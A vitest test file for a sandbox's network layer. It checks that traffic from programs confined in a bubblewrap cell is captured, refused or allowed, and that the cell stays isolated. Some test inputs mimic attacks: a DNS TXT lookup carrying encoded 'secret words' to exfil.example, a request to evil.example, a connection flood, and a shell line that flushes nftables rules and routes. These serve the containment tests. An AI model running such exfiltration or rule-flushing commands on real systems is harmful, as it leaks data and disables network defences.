import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, readdirSync, statSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { describe, expect, test, vi } from 'vitest';
import { asOrdinaryUser } from '../../../test/as-ordinary-user.ts';
import type { NetworkDeed } from '../../model/behaviour.ts';
import type { Grant, Limits } from '../../model/grant.ts';
import type { NetworkMode } from '../../model/probe.ts';
import bubblewrap from '../sandboxes/bubblewrap.ts';
import { missingNetwork, type Network, type NetworkOptions, openNetwork } from './index.ts';

const LIMITS: Limits = { memory: 1 << 30, processes: 300, fileSize: 1 << 24, time: 50_000 };
const NOTHING: Grant = { read: [], write: [], env: {}, network: 'none' };
const PYTHON = '/usr/bin/python3';
const CURL = '/usr/bin/curl';
const NFT = ['/usr/sbin/nft', '/usr/bin/nft', '/sbin/nft'].find((path) => existsSync(path));

interface Inside {
  readonly network: Network;
  /** Runs a program in the cell; what it printed. */
  readonly run: (command: string, args: readonly string[]) => Promise<string>;
  readonly js: (code: string) => Promise<string>;
}

async function inside<T>(mode: NetworkMode, use: (inside: Inside) => Promise<T>, options: NetworkOptions = {}): Promise<T> {
  await using network = await openNetwork(mode, { seedFor: (host) => `word-of-${host}`, ...options });
  await using cell = await bubblewrap.open(NOTHING, LIMITS, [network.around]);
  const run: Inside['run'] = async (command, args) => {
    const started = await cell.start({ command, args, cwd: undefined, env: {} });
    let out = '';
    for (const stream of [started.stdout, started.stderr]) stream.on('data', (chunk: Buffer) => (out += chunk.toString()));
    await started.exit;
    return out.trim();
  };
  return await use({ network, run, js: (code) => run('node', ['-e', `${SHORT}\n${code}`]) });
}

/** Words for the small programs below. */
const SHORT = `const net = require('net'), dgram = require('dgram'), dns = require('dns'), http2 = require('http2');
const say = (value) => console.log(typeof value === 'string' ? value : JSON.stringify(value));
const no = (error) => say('no ' + (error.code ?? error.cause?.code ?? error.message));
const get = (url, options) => fetch(url, options).then((r) => r.text()).then((text) => say(text.trim()), no);
const tcp = (host, port, text) => new Promise((done) => { const s = net.connect(port, host, () => text && s.write(text)).on('data', (d) => { say(String(d).trim()); s.destroy(); }).on('error', no).on('close', done); });`;

const seen = async (network: Network): Promise<readonly NetworkDeed[]> => {
  await network.settled();
  return network.records();
};
/** Nobody answers a datagram: where much else runs, it is on its way for longer than `settled` waits. */
const eventually = (holds: () => Promise<void>): Promise<void> => vi.waitFor(holds, { timeout: 10_000, interval: 50 });
const lookups = (deeds: readonly NetworkDeed[]): string[] =>
  deeds.filter(({ did }) => did === 'lookup').map(({ host, said }) => `${said?.method} ${host}`);
const others = (deeds: readonly NetworkDeed[]): NetworkDeed[] => deeds.filter(({ did }) => did !== 'lookup');

/** Host processes that live in the network namespaces of ours, by a word of their command line or by their namespace. */
const inNamespace = (link: string): number[] =>
  readdirSync('/proc')
    .map(Number)
    .filter((pid) => {
      try {
        return pid > 0 && statSync(`/proc/${pid}/ns/net`).ino === Number(link);
      } catch {
        return false;
      }
    });
const namespaceOf = async (network: Network): Promise<string> => {
  const words = await network.around.prefix();
  return String(statSync(`/proc/${words[words.indexOf('-t') + 1]}/ns/net`).ino);
};

const missing = missingNetwork() ?? (await bubblewrap.missing()) ?? (NFT === undefined ? 'nftables is not installed.' : undefined);
if (missing !== undefined) {
  test('a network can be made here', () => {
    console.error(`NOT RUN: the network of cells. ${missing}`);
    expect(process.env['CI'] === 'true' ? missing : undefined).toBeUndefined();
  });
} else {
  describe(`a network as ${process.getuid?.() === 0 ? 'root' : 'an ordinary user'}: sink`, () => {
    test('HTTP and HTTPS by Node: names, ports, bodies; the answer carries the word of the host', async () => {
      await inside('sink', async ({ network, js }) => {
        const [plain, secure] = await Promise.all([
          js(`get('http://plain.example/a?x=1', { headers: { accept: 'text/plain', 'x-mine': 'header words' } })`),
          js(`get('https://api.secure.example:8443/up', { method: 'POST', body: 'body words' })`),
        ]);
        expect(plain).toBe('word-of-plain.example');
        expect(JSON.parse(secure)).toMatchObject({ message: 'word-of-api.secure.example' });
        const deeds = await seen(network);
        expect(lookups(deeds)).toEqual(expect.arrayContaining(['A plain.example', 'AAAA plain.example', 'A api.secure.example']));
        const [get, post] = ['GET', 'POST'].map((method) => others(deeds).find(({ said }) => said?.method === method));
        expect(get).toMatchObject({ did: 'connect', protocol: 'tcp', host: 'plain.example', port: 80, outcome: 'answered' });
        expect(get?.said).toMatchObject({ kind: 'http', sni: undefined, url: 'http://plain.example/a?x=1' });
        expect(get?.said?.headers).toContainEqual(['x-mine', 'header words']);
        expect(post).toMatchObject({ host: 'api.secure.example', port: 8443 });
        expect(post?.said).toMatchObject({
          kind: 'http',
          sni: 'api.secure.example',
          url: 'https://api.secure.example:8443/up',
          body: 'body words',
        });
      });
    });

    test.skipIf(!existsSync(PYTHON))('HTTPS by Python', async () => {
      await inside('sink', async ({ network, run }) => {
        const code = 'import urllib.request as u;print(u.urlopen("https://py.example/d.txt", data=b"from python").read().decode())';
        expect(await run(PYTHON, ['-c', code])).toBe('word-of-py.example');
        expect(others(await seen(network))).toMatchObject([{ host: 'py.example', port: 443, said: { kind: 'http', body: 'from python' } }]);
      });
    });

    test.skipIf(!existsSync(CURL))('HTTPS by curl, HTTP/2 too', async () => {
      await inside('sink', async ({ network, run, js }) => {
        expect(await run(CURL, ['-sS', '-d', 'from curl', 'https://curl.example/x.html'])).toContain('<p>word-of-curl.example</p>');
        const two = `const s = http2.connect('https://two.example:9443'); const r = s.request({ ':path': '/two', ':method': 'POST' }); r.end('over two');
          let t = ''; r.on('data', (d) => t += d).on('end', () => { say(t); s.close(); });`;
        expect(await js(two)).toContain('word-of-two.example');
        const deeds = others(await seen(network)).map(({ host, port, said }) => [host, port, said?.url, said?.body]);
        expect(deeds).toEqual([
          ['curl.example', 443, 'https://curl.example/x.html', 'from curl'],
          ['two.example', 9443, 'https://two.example:9443/two', 'over two'],
        ]);
      });
    });

    test('a client that trusts its own certificates only: the host is seen', async () => {
      await inside('sink', async ({ network, js }) => {
        const code = `require('tls').connect({ host: 'pinned.example', port: 443, servername: 'pinned.example', ca: require('tls').rootCertificates[0] }).on('error', no)`;
        expect(await js(code)).toMatch(/^no /);
        expect(others(await seen(network))).toMatchObject([
          { host: 'pinned.example', port: 443, outcome: 'failed', said: { kind: 'tls', sni: 'pinned.example' } },
        ]);
      });
    });

    test('raw bytes to addresses and odd ports, IPv4 and IPv6, and datagrams', async () => {
      await inside('sink', async ({ network, js }) => {
        const out = await js(`(async () => {
          await tcp('203.0.113.7', 31338, 'raw words'); await tcp('2606:4700::1111', 4711, 'six words');
          const d = dgram.createSocket('udp4'), e = dgram.createSocket('udp6');
          d.send('first datagram', 5555, '203.0.113.9', () => d.send('second datagram', 5556, '203.0.113.10', () => d.send('again', 5556, '203.0.113.10', () => d.close())));
          e.send('sixth datagram', 5557, '2606:4700::2222', () => e.close());
        })()`);
        expect(out).toBe('OK word-of-203.0.113.7\nOK word-of-2606:4700::1111');
        await eventually(async () => {
          const deeds = (await seen(network)).map(({ did, protocol, address, port, said }) =>
            [did, protocol, address, port, said?.kind, said?.body].join(' '),
          );
          expect(deeds.sort()).toEqual([
            'connect tcp 203.0.113.7 31338 bytes raw words',
            'connect tcp 2606:4700::1111 4711 bytes six words',
            'send udp 203.0.113.10 5556 bytes second datagramagain',
            'send udp 203.0.113.9 5555 bytes first datagram',
            'send udp 2606:4700::2222 5557 bytes sixth datagram',
          ]);
        });
      });
    });

    test('a connection that is cut before we can look at it is seen all the same', async () => {
      await inside('sink', async ({ network, js }) => {
        await js(`for (let i = 0; i < 20; i++) net.connect(7000 + i, '203.0.113.7', function () { this.resetAndDestroy(); })`);
        const ports = (await seen(network)).map(({ address, port }) => `${address}:${port}`).sort();
        expect(ports).toEqual(Array.from({ length: 20 }, (_, i) => `203.0.113.7:${7000 + i}`));
      });
    });

    test('questions to any name server, whole names, other types, over TCP', async () => {
      await inside('sink', async ({ network, js }) => {
        const out = await js(`(async () => { const r = new dns.promises.Resolver(); r.setServers(['8.8.8.8']);
          say(await r.resolveTxt('c2VjcmV0LXdvcmRz.exfil.example')); say(await r.resolveMx('mail.example')); say(await r.resolveSrv('_x._tcp.srv.example'));
          const [four] = await r.resolve4('back.example'); const [six] = await r.resolve6('back.example'); say(await r.reverse(four)); say(await r.reverse(six));
          const q = Buffer.from('00010100000100000000000003746370076578616d706c650000010001', 'hex'); const l = Buffer.alloc(2); l.writeUInt16BE(q.length);
          await new Promise((done) => net.connect(53, '9.9.9.9', function () { this.write(Buffer.concat([l, q])); }).on('data', function (d) { say(d.length); this.destroy(); done(); })); })()`);
        expect(out.split('\n')).toEqual([
          '[["v=1; word-of-c2vjcmv0lxdvcmrz.exfil.example"]]',
          '[{"exchange":"mail.mail.example","priority":10}]',
          '[{"name":"srv.example","port":443,"priority":10,"weight":5}]',
          '["back.example"]',
          '["back.example"]',
          '47',
        ]);
        const deeds = await seen(network);
        expect(lookups(deeds)).toEqual(
          expect.arrayContaining(['MX mail.example', 'SRV _x._tcp.srv.example', 'AAAA back.example', 'A tcp.example']),
        );
        expect(deeds.find(({ said }) => said?.method === 'TXT')?.said?.body.toLowerCase()).toBe('c2vjcmv0lxdvcmrz.exfil.example');
      });
    });

    test('what the cell says to itself stays in it', async () => {
      await inside('sink', async ({ network, js }) => {
        const code = `const s = require('http').createServer((q, r) => r.end('own')).listen(8080, () => get('http://localhost:8080/').then(() => tcp('127.0.0.1', 9)).then(() => process.exit()))`;
        expect(await js(code)).toBe('own\nno ECONNREFUSED');
        expect(await seen(network)).toEqual([]);
      });
    });

    test('letters, a greeting that is waited for, and bytes beyond the bound', async () => {
      await inside('sink', async ({ network, js }) => {
        const letter = `const lines = ['EHLO me', 'MAIL FROM:<a@b.example>', 'RCPT TO:<c@d.example>', 'DATA', 'letter words\\r\\n.', 'QUIT'];
          net.connect(25, 'mx.example').on('data', function (d) { const n = lines.shift(); if (n) this.write(n + '\\r\\n'); else { say(String(d).trim()); this.end(); } })`;
        const much = `fetch('http://big.example/', { method: 'PUT', body: Buffer.alloc(300000, 'x') }).then((r) => say(r.status))`;
        expect(await Promise.all([js(letter), js(much)])).toEqual(['221 Bye', '200']);
        const deeds = others(await seen(network));
        expect(deeds.find(({ port }) => port === 25)?.said).toMatchObject({
          kind: 'bytes',
          body: expect.stringContaining('letter words') as string,
        });
        const big = deeds.find(({ host }) => host === 'big.example')?.said;
        expect([big?.body.length, big?.bytes]).toEqual([65_536, 300_000]);
      });
    });

    test('a flood is bounded, counted, and does not keep the network from answering', { timeout: 90_000 }, async () => {
      await inside('sink', async ({ network, js }) => {
        const code = `(async () => {
          const held = Array.from({ length: 600 }, (_, i) => net.connect(1000 + i, '203.0.113.7').on('error', () => {}));
          const d = dgram.createSocket('udp4'); let asked = 0, answered = 0;
          const ask = () => d.send(Buffer.from('00010100000100000000000004' + Buffer.from(String(1000 + asked++)).toString('hex') + '076578616d706c650000010001', 'hex'), 53, '8.8.8.8');
          await new Promise((done) => { d.on('message', () => (++answered === 5500 ? done() : asked < 5500 && ask())); for (let i = 0; i < 100; i++) ask(); });
          for (const each of held) each.destroy(); d.close();
          await get('http://203.0.113.8/', { headers: { accept: 'text/plain' } }); process.exit(); })()`;
        expect(await js(code)).toBe('word-of-203.0.113.8');
        await network.settled();
        expect(network.records().length).toBe(5000);
        expect(network.dropped()).toBeGreaterThan(900);
      });
    });
  });

  describe('a network that refuses', () => {
    test('nothing answers, all is seen', async () => {
      await inside('none', async ({ network, js }) => {
        const before = Date.now();
        const out =
          await js(`(async () => { await get('https://evil.example/'); await tcp('203.0.113.7', 4711, 'x'); await tcp('2606:4700::1', 443, 'x');
          const d = dgram.createSocket('udp4'); d.send('x', 5555, '203.0.113.9', () => d.close()); })()`);
        expect(out.split('\n')).toEqual(['no ENOTFOUND', 'no ECONNREFUSED', 'no ECONNREFUSED']);
        await eventually(async () => {
          const deeds = await seen(network);
          expect(deeds.find(({ did }) => did === 'lookup')).toMatchObject({ host: 'evil.example', outcome: 'refused' });
          expect(
            others(deeds)
              .map(({ protocol, address, port, outcome }) => `${protocol} ${address} ${port} ${outcome}`)
              .sort(),
          ).toEqual(['tcp 203.0.113.7 4711 refused', 'tcp 2606:4700::1 443 refused', 'udp 203.0.113.9 5555 refused']);
        });
        const deeds = network.records();
        for (const { at } of deeds) expect(Math.abs(at - before)).toBeLessThan(Date.now() - before + 50);
      });
    });
  });

  describe('a network with hosts', () => {
    test('the named ones are reached, all else is sunk; private addresses only when they are named', async () => {
      const heard: string[] = [];
      const real = createHttpServer((request, response) => {
        heard.push(`${request.method} ${request.url} ${request.headers.host}`);
        request.resume().on('end', () => response.end('the real one'));
      }).listen(0, '127.0.0.1');
      await once(real, 'listening');
      const address = real.address();
      const port = typeof address === 'object' && address !== null ? address.port : 0;
      const lookup = async (): Promise<string[]> => ['127.0.0.1'];
      const program = `(async () => { for (const url of ['http://good.example:${port}/ask?q=1', 'http://127.0.0.1:${port}/by-address', 'http://other.example:${port}/'])
        await get(url, { headers: { accept: 'text/plain' }, method: 'POST', body: 'words' }); })()`;
      try {
        const hosts = ['good.example', `127.0.0.1:${port}`];
        await inside(
          { hosts },
          async ({ network, js }) => {
            expect((await js(program)).split('\n')).toEqual(['the real one', 'the real one', 'word-of-other.example']);
            const deeds = others(await seen(network));
            expect(deeds.map(({ host, address, outcome, said }) => [host ?? address, outcome, said?.url, said?.body])).toEqual([
              ['good.example', 'allowed', `http://good.example:${port}/ask?q=1`, 'words'],
              ['127.0.0.1', 'allowed', `http://127.0.0.1:${port}/by-address`, 'words'],
              ['other.example', 'answered', `http://other.example:${port}/`, 'words'],
            ]);
          },
          { lookup },
        );
        expect(heard).toEqual([`POST /ask?q=1 good.example:${port}`, `POST /by-address 127.0.0.1:${port}`]);
        await inside(
          { hosts: ['good.example'] },
          async ({ network, js }) => {
            expect((await js(program)).split('\n').slice(0, 2)).toEqual([expect.stringMatching(/^no /), 'no ECONNREFUSED']);
            expect(others(await seen(network))[0]).toMatchObject({ host: 'good.example', outcome: 'failed' });
          },
          { lookup },
        );
        expect(heard.length).toBe(2);
      } finally {
        real.close();
        real.closeAllConnections();
      }
    });
  });

  describe('the walls of a network', () => {
    test('two cells do not see each other, nor a listener of ours', async () => {
      const server = createServer((socket) => socket.end('host')).listen(0, '127.0.0.1');
      await once(server, 'listening');
      const address = server.address();
      const port = typeof address === 'object' && address !== null ? address.port : 0;
      await inside('sink', async (first) => {
        await inside('sink', async (second) => {
          const listening = first.js(
            `net.createServer((s) => s.end('first')).listen(7777, '0.0.0.0'); setTimeout(() => process.exit(), 2500)`,
          );
          const reach = `(async () => { for (const host of ['127.0.0.1', '10.0.2.15', '::1', 'fd17:625c:f037:2::15']) for (const port of [7777, ${port}]) await tcp(host, port, ''); })()`;
          expect(await second.js(reach)).toBe(Array(8).fill('no ECONNREFUSED').join('\n'));
          await listening;
          expect(await seen(first.network)).toEqual([]);
        });
      });
      server.close();
    });

    test('a program in the cell holds no power over it', async () => {
      await inside('sink', async ({ run }) => {
        const out = await run('sh', ['-c', 'ip link set lo down; nft flush ruleset; ip route flush table all; id -u']);
        expect(out).toMatch(/not permitted/);
        expect(out).toMatch(/1000$/);
        expect(await run('node', ['-e', `fetch('http://still.example/x.txt').then((r) => r.text()).then(console.log)`])).toBe(
          'word-of-still.example',
        );
      });
    });

    test('nothing is left when it is closed', async () => {
      const network = await openNetwork('sink');
      const namespace = await namespaceOf(network);
      await using cell = await bubblewrap.open(NOTHING, LIMITS, [network.around]);
      const started = await cell.start({
        command: 'node',
        args: ['-e', `require('net').connect(1, '1.2.3.4', () => console.log('up'))`],
        cwd: undefined,
        env: {},
      });
      await once(started.stdout, 'data');
      expect(inNamespace(namespace).length).toBeGreaterThan(1);
      await started.kill();
      await network[Symbol.asyncDispose]();
      expect(inNamespace(namespace)).toEqual([]);
      await expect(cell.start({ command: 'true', args: [], cwd: undefined, env: {} })).rejects.toMatchObject({ name: 'CouldNotLook' });
    });

    test('nothing is left when we are killed', async () => {
      const code = `import(${JSON.stringify(join(import.meta.dirname, 'index.ts'))}).then(async ({ openNetwork }) => {
        const network = await openNetwork('sink'); console.log((await network.around.prefix()).join(' ')); });`;
      const owner = spawn(process.execPath, ['--import', 'tsx', '-e', code], {
        cwd: import.meta.dirname,
        stdio: ['ignore', 'pipe', 'inherit'],
      });
      const [words] = (await once(owner.stdout, 'data')) as [Buffer];
      const namespace = String(statSync(`/proc/${/-t (\d+)/.exec(words.toString())?.[1]}/ns/net`).ino);
      expect(inNamespace(namespace).length).toBeGreaterThan(0);
      owner.kill('SIGKILL');
      await expect.poll(() => inNamespace(namespace), { timeout: 5000 }).toEqual([]);
    });
  });

  describe('without nftables', () => {
    test('the usual ports answer, and what is not seen is said', async () => {
      await inside(
        'sink',
        async ({ network, js }) => {
          expect(await js(`get('https://plain.example/a.txt').then(() => tcp('203.0.113.7', 31338, 'x'))`)).toBe(
            'word-of-plain.example\nno ECONNREFUSED',
          );
          expect(others(await seen(network))).toMatchObject([
            { host: 'plain.example', port: 443, said: { url: 'https://plain.example/a.txt' } },
          ]);
          expect(network.unseen.join()).toContain('nftables');
        },
        { nftables: false },
      );
      await inside(
        'none',
        async ({ network, js }) => {
          expect(await js(`get('https://plain.example/').then(() => tcp('203.0.113.7', 443, 'x'))`)).toMatch(/^no ENOTFOUND/);
          expect(others(await seen(network))).toMatchObject([{ address: '203.0.113.7', port: 443, outcome: 'refused' }]);
        },
        { nftables: false },
      );
    });
  });
}

describe.runIf(process.getuid?.() === 0 && missing === undefined)('all of it again as an ordinary user', () => {
  test('who holds no privilege', { timeout: 180_000 }, () => {
    const ran = asOrdinaryUser(import.meta.filename);
    if (ran === undefined) return;
    const { status, stdout, stderr } = ran;
    expect({ status, said: status === 0 ? '' : `${stdout}${stderr}` }).toEqual({ status: 0, said: '' });
    expect(stdout).toMatch(/as an ordinary user: sink raw bytes[^{}]{0,400}"status":"passed"/);
  });
});
